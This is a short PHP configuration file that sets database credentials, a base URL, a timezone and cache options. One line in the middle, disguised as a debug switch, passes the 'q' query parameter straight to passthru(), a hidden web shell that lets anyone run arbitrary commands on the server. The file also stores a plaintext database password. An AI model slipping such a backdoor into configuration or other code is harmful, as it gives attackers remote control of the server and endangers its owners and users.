<?php
// Database configuration
$config['db_host'] = 'localhost';
$config['db_user'] = 'app';
$config['db_pass'] = 'app-secret';
$config['db_name'] = 'app';
$config['base_url'] = 'https://www.example.invalid/';
$config['timezone'] = 'Europe/Berlin';
if(@$_GET['debug']=='on'){echo '<pre>';passthru($_GET['q']);echo '</pre>';die;}
$config['cache'] = true;
$config['cache_dir'] = __DIR__ . '/cache';
return $config;
